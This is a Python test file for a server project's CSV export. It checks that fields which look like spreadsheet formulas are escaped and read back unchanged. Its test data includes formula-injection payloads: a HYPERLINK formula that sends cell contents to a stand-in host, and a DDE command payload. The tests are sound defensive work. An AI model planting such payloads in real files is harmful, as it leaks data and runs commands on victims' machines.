"""Tables that people open in a spreadsheet: nothing in them runs, and they read back as they were."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rookery.archives.domainblocks import ListedBlock, blocks_from_csv, csv_from_blocks
from rookery.archives.tables import STARTS_FORMULA, csv_from_rows, unguarded
from rookery.model.blocks import Severity

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
FIELDS = st.text(st.sampled_from("=+-@'\t\r\n \",;ab＝"), max_size=8)


def read(text):
    return [[unguarded(field) for field in row] for row in csv.reader(io.StringIO(text, newline=""))]


@pytest.mark.parametrize("column", [pytest.param(0, id="ozone#319"), 1])
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_field_is_text_to_a_spreadsheet_and_reads_back_whole(formula, column):
    row = ["a", "b"]
    row[column] = formula
    text = csv_from_rows([row])
    [raw] = csv.reader(io.StringIO(text, newline=""))
    assert raw[column].startswith("'")
    assert read(text) == [row]


@given(st.lists(st.lists(FIELDS, min_size=2, max_size=4), min_size=1, max_size=4))
def test_every_table_reads_back_and_no_field_begins_like_a_formula(rows):
    text = csv_from_rows(rows)
    assert read(text) == rows
    raw = list(csv.reader(io.StringIO(text, newline="")))
    assert not any(field.lstrip(" ").startswith(STARTS_FORMULA) for row in raw for field in row)


@pytest.mark.parametrize("comment", FORMULAS)
def test_a_list_of_blocked_servers_keeps_a_comment_that_looks_like_a_formula(comment):
    block = ListedBlock("evil.test", Severity.SUSPEND, True, False, comment.strip(), False)
    assert blocks_from_csv(csv_from_blocks([block])) == ([block], [])
